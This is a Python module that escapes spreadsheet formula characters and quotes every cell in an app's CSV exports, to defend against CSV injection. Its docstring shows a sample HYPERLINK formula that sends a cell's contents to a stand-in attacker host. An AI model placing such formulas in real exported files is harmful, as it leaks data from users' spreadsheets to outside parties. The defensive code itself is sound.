"""Every CSV the app writes goes through here, so none can carry a live spreadsheet formula.

A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` as a formula (and some do after a
leading tab or carriage return), so a prompt such as `=HYPERLINK("http://evil.example/?x="&A1,"click")`
would be a working link in a teammate's copy of the zip's index. OWASP's CSV-injection rule is
followed for every cell: one that begins with `=`, `+`, `-`, `@`, tab or carriage return (or NUL,
which OWASP's ASVS 1.2.10 adds) gets a leading apostrophe. Spreadsheets show the apostrophe as
part of the text and run nothing; the rest of the cell is unchanged, so the prompt stays readable,
and a program reading the file can drop a leading apostrophe before one of those characters.
Every cell is also quoted, so a spreadsheet that splits on `;` or tabs (as some locales do)
cannot find a second cell, starting with `=`, inside one.

Numbers get no exemption: "-1+1" or "+1e3" look numeric enough to pass a "plain numbers may stay"
rule and are still formulas, and the app's numeric columns (ids, dollars, credits, dates) are
never negative, so nothing a reader needs is changed.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")


def cell(value: object) -> str:
    """The value as a cell's text, with an apostrophe in front where a spreadsheet would run it."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_bytes(rows: Iterable[Sequence[object]]) -> bytes:
    """The rows (the header first) as UTF-8 CSV with every cell safe and quoted."""
    return b"".join(csv_stream(rows, rows_per_chunk=0))


def csv_stream(rows: Iterable[Sequence[object]], rows_per_chunk: int = 1000) -> Iterator[bytes]:
    """The same CSV in pieces of `rows_per_chunk` rows (0: one piece), for a streamed response:
    the rows are read as they are written, so a long export holds one piece at a time."""
    out = io.StringIO()
    # A BOM so spreadsheet programs read accents (in prompts, names) as UTF-8.
    out.write("\ufeff")
    writer = csv.writer(out, quoting=csv.QUOTE_ALL)
    for count, row in enumerate(rows, start=1):
        writer.writerow([cell(value) for value in row])
        if rows_per_chunk and count % rows_per_chunk == 0:
            yield out.getvalue().encode()
            out.seek(0)
            out.truncate()
    yield out.getvalue().encode()
